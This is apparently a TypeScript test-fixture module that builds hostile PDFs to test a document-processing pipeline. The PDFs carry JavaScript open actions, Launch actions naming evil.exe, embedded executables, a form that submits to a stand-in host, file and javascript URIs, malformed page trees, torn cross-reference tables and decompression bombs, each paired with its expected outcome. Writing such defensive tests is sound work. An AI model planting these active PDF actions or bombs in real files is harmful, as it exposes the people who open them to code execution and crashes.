import { deflateSync } from 'node:zlib';
import { type PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';

/** What a packet makes of a file: so many pages of its own, or one page that gives the reason. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
  /** `any` where chance decides which of its bytes are turned over. */
  readonly expected: number | 'encrypted' | 'broken' | 'unsupported' | 'tooLarge' | 'any';
}

const row = (name: string, bytes: Uint8Array | string, expected: HostileFile['expected']): HostileFile => ({
  name,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes, 'latin1') : bytes,
  expected,
});

const stream = (dict: string, body: Buffer | string): string => {
  const bytes = Buffer.from(body);
  return `<< ${dict} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
};

interface Parts {
  readonly catalog?: string;
  readonly page?: string;
  readonly pages?: string;
  /** Further objects, numbered from 6. */
  readonly more?: readonly string[];
  readonly content?: string;
  readonly font?: string;
}

/** A page written by hand: 1 catalog, 2 page tree, 3 page, 4 content, 5 font. */
const pdf = ({ catalog = '', page = '', pages, more = [], content, font }: Parts = {}): string => {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    pages ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page.includes('/MediaBox') ? '' : '/MediaBox [0 0 300 300]'} ${page} >>`,
    content ?? stream('', 'BT /F1 18 Tf 40 200 Td (hostile) Tj ET'),
    font ?? '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...more,
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const xref = text.length;
  const lines = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
};

const script = '<< /S /JavaScript /JS (app.alert\\("evil"\\)) >>';
const launch = '<< /S /Launch /F (evil.exe) /Win << /F (evil.exe) /P (evil) >> >>';
const annotation = (dict: string, more: readonly string[] = []): string =>
  pdf({ page: '/Annots [6 0 R]', more: [`<< /Type /Annot /Rect [0 0 300 300] ${dict} >>`, ...more] });
const attached = [
  '<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 8 0 R >> >>',
  stream('/Type /EmbeddedFile', 'MZ evil'),
];

const active = (): readonly HostileFile[] => [
  row('script when opened', pdf({ catalog: `/OpenAction ${script}` }), 1),
  row('script by name', pdf({ catalog: `/Names << /JavaScript << /Names [(evil) ${script}] >> >>` }), 1),
  row('script of the page', pdf({ page: `/AA << /O ${script} /C ${script} >>` }), 1),
  row(
    'script behind another action',
    pdf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>` }),
    1,
  ),
  row('script at the end', pdf({ catalog: `/AA << /WC ${script} /WS ${script} >>` }), 1),
  row('program when opened', pdf({ catalog: `/OpenAction ${launch}` }), 1),
  row('program behind a link', annotation(`/Subtype /Link /A ${launch}`), 1),
  row('program behind a jump', annotation(`/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next [${launch}] >>`), 1),
  row('address of a file', annotation('/Subtype /Link /A << /S /URI /URI (file:///evil) >>'), 1),
  row('address with a script', annotation('/Subtype /Link /A << /S /URI /URI (javascript:evil\\(\\)) >>'), 1),
  row('other file', annotation('/Subtype /Link /A << /S /GoToR /F (evil.pdf) /D [0 /Fit] >>'), 1),
  row('file inside a file', annotation('/Subtype /Link /A << /S /GoToE /F (evil.pdf) >>'), 1),
  row(
    'form that sends',
    annotation('/Subtype /Widget /FT /Btn /T (send) /A << /S /SubmitForm /F (http://evil.invalid) >>'),
    1,
  ),
  row(
    'form with scripts',
    pdf({
      catalog: `/AcroForm << /Fields [6 0 R] /CO [6 0 R] >>`,
      page: '/Annots [6 0 R]',
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 90 20] /AA << /K ${script} /C ${script} >> >>`,
      ],
    }),
    1,
  ),
  row(
    'XFA form',
    pdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', more: [stream('', '<xdp:xdp>evil</xdp:xdp>')] }),
    1,
  ),
  row(
    'attached program',
    pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(evil) 7 0 R] >> >>', more: ['null', ...attached] }),
    1,
  ),
  row('program on a pin', annotation('/Subtype /FileAttachment /FS 7 0 R', attached), 1),
  row('associated file', pdf({ catalog: '/AF [7 0 R]', page: '/AF [7 0 R]', more: ['null', ...attached] }), 1),
  row(
    'rich media',
    annotation(
      '/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(evil.swf) 7 0 R] >> >> /RichMediaSettings << /Activation << /Condition /PO >> >>',
      attached,
    ),
    1,
  ),
  row(
    'three dimensions',
    annotation('/Subtype /3D /3DD 7 0 R', ['<< /Type /3D /Subtype /U3D /OnInstantiate 8 0 R >>', stream('', 'evil()')]),
    1,
  ),
  row('film', annotation('/Subtype /Movie /Movie << /F (evil.avi) >> /A << /ShowControls true >>'), 1),
  row('sound', annotation('/Subtype /Sound /Sound 7 0 R', [stream('/Type /Sound /R 8000', 'evil')]), 1),
  row('screen with a rendition', annotation('/Subtype /Screen /A << /S /Rendition /OP 0 /JS (evil\\(\\)) >>'), 1),
  row('field names hidden', pdf({ catalog: '/OpenAction << /S /Java#53cript /J#53 (evil) >>' }), 1),
  row('import of data', annotation('/Subtype /Link /A << /S /ImportData /F (evil.fdf) >>'), 1),
];

const shapes = (): readonly HostileFile[] => [
  row('no page', pdf({ pages: '<< /Type /Pages /Kids [] /Count 0 >>' }), 'broken'),
  row('page tree in a circle', pdf({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }), 'broken'),
  row(
    'page tree in a wide circle',
    pdf({
      pages: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>',
      more: ['<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>'],
    }),
    'broken',
  ),
  row('count that lies', pdf({ pages: '<< /Type /Pages /Kids [3 0 R] /Count 900000000 >>' }), 1),
  row('page that is nothing', pdf({ pages: '<< /Type /Pages /Kids [99 0 R] /Count 1 >>' }), 'broken'),
  row('page of the largest size', pdf({ page: '/MediaBox [0 0 14400 14400]' }), 1),
  row('page beyond any size', pdf({ page: '/MediaBox [0 0 1000000000 1000000000]' }), 1),
  row('page without size', pdf({ page: '/MediaBox [0 0 0 0]' }), 1),
  row('page turned by 17 degrees', pdf({ page: '/Rotate 17' }), 1),
  row('crop outside the page', pdf({ page: '/CropBox [-9000 -9000 9000 9000]' }), 1),
  row('size in words', pdf({ page: '/MediaBox (large)' }), 'broken'),
  row('content that is nothing', pdf({ content: 'null' }), 1),
  row('content in a circle', pdf({ content: '[4 0 R 4 0 R]' }), 'broken'),
  row(
    'content cut short',
    pdf({ content: stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(9000, 'q Q ')).subarray(0, 12)) }),
    'broken',
  ),
  row(
    'content that unpacks without end',
    pdf({ content: stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(70 * 2 ** 20, 32), { level: 1 })) }),
    'broken',
  ),
  row(
    'font that is none',
    pdf({
      font: '<< /Type /Font /Subtype /TrueType /BaseFont /Bad /FontDescriptor << /Type /FontDescriptor /FontName /Bad /FontFile2 6 0 R >> >>',
      more: [stream('', 'no font at all')],
    }),
    1,
  ),
  row(
    'font whose matrix is a script',
    pdf({ font: '<< /Type /Font /Subtype /Type1 /BaseFont /Bad /FontMatrix [1 2 3 4 5 (0\\); evil\\(\\))] >>' }),
    1,
  ),
  row(
    'font of itself',
    pdf({ font: '<< /Type /Font /Subtype /Type0 /BaseFont /Bad /Encoding /Identity-H /DescendantFonts [5 0 R] >>' }),
    1,
  ),
  row(
    'figure that draws itself',
    pdf({
      page: '/Resources << /XObject << /X 6 0 R >> >>',
      content: stream('', '/X Do'),
      more: [stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>', '/X Do')],
    }),
    1,
  ),
  row('arrays a thousand deep', pdf({ more: ['['.repeat(1000) + ']'.repeat(1000)] }), 1),
  row('a length that lies', pdf({ content: '<< /Length 999999 >>\nstream\nBT ET\nendstream' }), 1),
];

const torn = (): readonly HostileFile[] => {
  const whole = pdf();
  return [
    row('no table of places', whole.slice(0, whole.indexOf('xref\n')), 1),
    row('wrong places', whole.replaceAll(/^\d{10} 00000 n /gm, '0000000007 00000 n '), 1),
    row('wrong start', whole.replace(/startxref\n\d+/, 'startxref\n99999999'), 1),
    row('table that leads to itself', whole.replace('/Root 1 0 R', `/Root 1 0 R /Prev ${whole.indexOf('xref\n')}`), 1),
    row('cut in the middle', whole.slice(0, whole.length / 2), 'broken'),
    row('head alone', '%PDF-1.7\n', 'broken'),
    row('mail before the head', `From: someone\r\n\r\n${whole}`, 1),
    row('program before the head', `MZ${'\0'.repeat(500)}${whole}`, 1),
    row('page of the web by the name of a PDF', '<!doctype html><script>evil()</script>', 'unsupported'),
    row('nothing', '', 'unsupported'),
  ];
};

const deeds = ['open', 'page', 'file', 'attached', 'JavaScript', 'Launch', 'SubmitForm', 'ImportData', 'GoToR', 'URI'];

/** One page that does, when it can, what a page can do; its words are `active` and its number. */
const activePdf = async (kinds: readonly string[], seed: number): Promise<Uint8Array> => {
  const document = await PDFDocument.create({ updateMetadata: false });
  const page = document.addPage([400, 400]);
  page.drawText(`active ${seed}`, { x: 50, y: 300, size: 24, font: await document.embedFont(StandardFonts.Helvetica) });
  const { context } = document;
  const does = (kind: string): PDFDict => {
    const action = context.obj({ Type: 'Action', S: kind });
    action.set(PDFName.of('JS'), PDFString.of(`app.alert("evil ${seed}")`));
    action.set(PDFName.of('F'), PDFString.of('evil.exe'));
    action.set(PDFName.of('URI'), PDFString.of('file:///etc/evil'));
    action.set(PDFName.of('Next'), context.obj({ S: 'Launch', F: PDFString.of('evil-next.exe') }));
    return action;
  };
  for (const kind of kinds) {
    if (kind === 'open') document.catalog.set(PDFName.of('OpenAction'), does('JavaScript'));
    else if (kind === 'page') page.node.set(PDFName.of('AA'), context.obj({ O: context.register(does('JavaScript')) }));
    else if (kind === 'file') await document.attach(new Uint8Array([77, 90]), 'evil.exe', {});
    else {
      const field = context.register(
        context.obj({ FT: 'Tx', T: PDFString.of('field'), AA: { K: does('JavaScript') } }),
      );
      const note = context.obj({
        Type: 'Annot',
        Subtype: kind === 'attached' ? 'FileAttachment' : 'Widget',
        Rect: [0, 0, 400, 400],
      });
      note.set(PDFName.of('Parent'), field);
      note.set(PDFName.of('A'), does(kind));
      note.set(PDFName.of('FS'), context.obj({ Type: 'Filespec', F: PDFString.of('evil.exe'), EF: {} }));
      page.node.addAnnot(context.register(note));
    }
  }
  return document.save({ useObjectStreams: seed % 2 === 0 });
};

/** Everything a page can do, one by one and all at once; then torn somewhere or with bytes turned over. */
export const activePdfs = async (): Promise<readonly HostileFile[]> => {
  const whole: Uint8Array[] = [];
  for (const [at, kind] of [...deeds.map((deed) => [deed]), deeds, deeds].entries())
    whole.push(await activePdf(kind, at));
  const damaged = Array.from({ length: 36 }, (_, at): Buffer => {
    const bytes = Buffer.from(whole[at % whole.length] ?? []);
    const cut = Math.floor((bytes.length * ((at % 7) + 1)) / 9);
    if (at % 3 === 0) return bytes.subarray(0, cut);
    for (let turn = 0; turn < 20; turn += 1) bytes.writeUInt8((turn * 37 + at) % 256, (cut + turn * 13) % bytes.length);
    return bytes;
  });
  return [
    ...whole.map((bytes, at) => row(`active ${at}`, bytes, 1)),
    ...damaged.map((bytes, at) => row(`active and damaged ${at}`, bytes, 'any')),
  ];
};

const locked = async (user: string, owner: string): Promise<Uint8Array> => {
  const document = await PDFDocument.load(Buffer.from(pdf(), 'latin1'));
  document.encrypt({ userPassword: user, ownerPassword: owner });
  return document.save({ useObjectStreams: false });
};

const many = async (pages: number): Promise<Uint8Array> => {
  const document = await PDFDocument.create({ updateMetadata: false });
  for (let at = 0; at < pages; at += 1) document.addPage([200, 200]);
  return document.save();
};

/** Objects packed into a stream that unpacks to far more than the file. */
const packedBomb = (): string =>
  pdf({
    more: [
      stream(
        '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode',
        deflateSync(Buffer.concat([Buffer.from('9 0  '), Buffer.alloc(8 * 2 ** 20, 32)])),
      ),
    ],
  });

/** PDFs made to harm, to mislead or to break; every one says `hostile` or `evil` and is written here. */
export const hostilePdfs = async (): Promise<readonly HostileFile[]> => [
  ...active(),
  ...shapes(),
  ...torn(),
  row('locked by its owner', await locked('', 'owner'), 1),
  row('locked for reading', await locked('user', 'owner'), 'encrypted'),
  row('packed objects that swell', packedBomb(), 'broken'),
  row('fifty pages', await many(50), 50),
];
